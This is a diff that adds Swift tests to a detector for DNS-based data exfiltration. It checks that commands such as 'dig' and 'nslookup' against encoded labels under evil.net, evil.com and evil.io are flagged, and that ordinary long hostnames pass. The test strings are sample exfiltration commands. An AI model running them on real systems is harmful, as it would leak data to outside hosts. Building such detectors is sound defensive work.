@@ -102,6 +102,34 @@ struct ExfiltrationTests {
     #expect(Self.types(text).isEmpty)
   }
 
+  @Test(
+    "names that carry data are found without an address around them",
+    arguments: [hex, base32, "9f3kq71zx8w2m5v0c4b6n8l1t7y3r5e2", hex + ".part2"])
+  func names(label: String) {
+    for text in [
+      "dig \(label).x.evil.net", "resolve '\(label).evil.com' now", "nslookup \(label).t.evil.io.",
+    ] {
+      #expect(Self.types(text) == ["exfiltration.dns-name"], "\(text)")
+      let bytes = Array(text.utf8)
+      let whole = run(Self.guardian, [bytes])
+      #expect(run(Self.guardian, bytes.map { [$0] }) == whole)
+    }
+    let guardian = TextGuard(policy: GuardPolicy(trustedDomains: ["evil.com"]))
+    #expect(Self.types("ping \(label).evil.com", guardian).isEmpty)
+  }
+
+  @Test(
+    "ordinary names pass",
+    arguments: [
+      "ec2-203-0-113-25.compute-1.amazonaws.com and very-long-name-of-a-host.internal.example.com",
+      "d41d8cd98f00b204e9800998ecf8427e.blob.core.windows.net",
+      "self.configurationManagerInstance.value.name",
+      "com.example.application.verylongpackagename.Main", "internationalization.module.example.org",
+    ])
+  func ordinaryNames(text: String) {
+    #expect(Self.types(text).isEmpty)
+  }
+
   @Test("trusted domains carry nothing away")
   func trusted() {
     let guardian = TextGuard(policy: GuardPolicy(trustedDomains: ["evil.example"]))
